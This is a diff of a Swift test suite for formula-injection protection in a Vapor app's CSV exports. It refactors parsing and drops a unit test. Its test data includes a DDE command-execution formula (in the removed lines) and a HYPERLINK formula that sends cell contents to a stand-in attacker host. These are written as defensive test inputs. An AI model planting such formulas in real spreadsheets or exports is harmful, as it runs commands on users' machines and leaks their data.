@@ -1,4 +1,5 @@
 import Foundation
+import Tabular
 import Testing
 import Vapor
 import VaporTesting
@@ -7,20 +8,6 @@ import VaporTesting
 
 @Suite("CSV exports: formula injection")
 struct CSVExportTests {
-  @Test("Cells beginning with = + - @ tab or CR are neutralised; numbers stay numbers; quotes are doubled")
-  func cells() {
-    for payload in ["=HYPERLINK(\"http://x\",\"y\")", "=cmd|' /C calc'!A0", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"] {
-      #expect(CSVExport.field(.text(payload)).hasPrefix("\"'"), "\(payload)")
-    }
-    #expect(CSVExport.field(.text("张三 = 李四")) == "\"张三 = 李四\"")
-    #expect(CSVExport.field(.text("say \"hi\"")) == "\"say \"\"hi\"\"\"")
-    #expect(CSVExport.field(.integer(-3)) == "-3")
-    #expect(CSVExport.field(.number(-12.5)) == "-12.5")
-    let data = CSVExport.data(header: ["a", "b"], rows: [[.text("=1+1"), .number(-2)]])
-    #expect(data.starts(with: [0xEF, 0xBB, 0xBF]))
-    #expect(String(decoding: data.dropFirst(3), as: UTF8.self) == "\"a\",\"b\"\r\n\"'=1+1\",-2.0\r\n")
-  }
-
   @Test("The work-order CSV export neutralises a formula typed into an order")
   func workOrderExport() async throws {
     try await withApp { app in
@@ -34,7 +21,7 @@ struct CSVExportTests {
       try await lead.login("lead")
       let csv = try await lead.get("/exports/work-orders.csv?view=all")
       #expect(csv.status == .ok)
-      let records = try CSVRecords.parse([UInt8](Data(buffer: csv.body)))
+      let records = try TabularReader.rows(in: Data(buffer: csv.body))
       let row = try #require(records.dropFirst().first)
       #expect(row.fields.contains(#"'=HYPERLINK("http://evil.example/?x="&A1,"点击查看")"#))
       #expect(row.fields.contains("'@SUM(1+1)"))
